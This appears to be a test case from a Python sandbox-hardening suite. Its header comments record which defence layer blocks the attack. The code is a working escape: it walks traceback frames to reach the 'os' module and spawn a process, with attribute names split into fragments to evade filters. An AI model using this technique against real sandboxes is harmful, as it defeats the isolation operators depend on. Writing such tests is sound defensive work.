# attack: generator/coroutine/traceback frames
# stops: guards: variable 'ZeroDivisionError' is not defined
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# binding a caught exception to reach its traceback (the builtins hold no exception class to name)
try:
    1 / 0
except ZeroDivisionError as e:
    frame = getattr(getattr(e, "__trace" + "back__"), "tb_fr" + "ame")
    while frame is not None and "os" not in getattr(frame, "f_glo" + "bals"):
        frame = getattr(frame, "f_ba" + "ck")
    print("ESCAPED", getattr(frame, "f_glo" + "bals")["os"].posix_spawn("/bin/true", ["true"], {}))
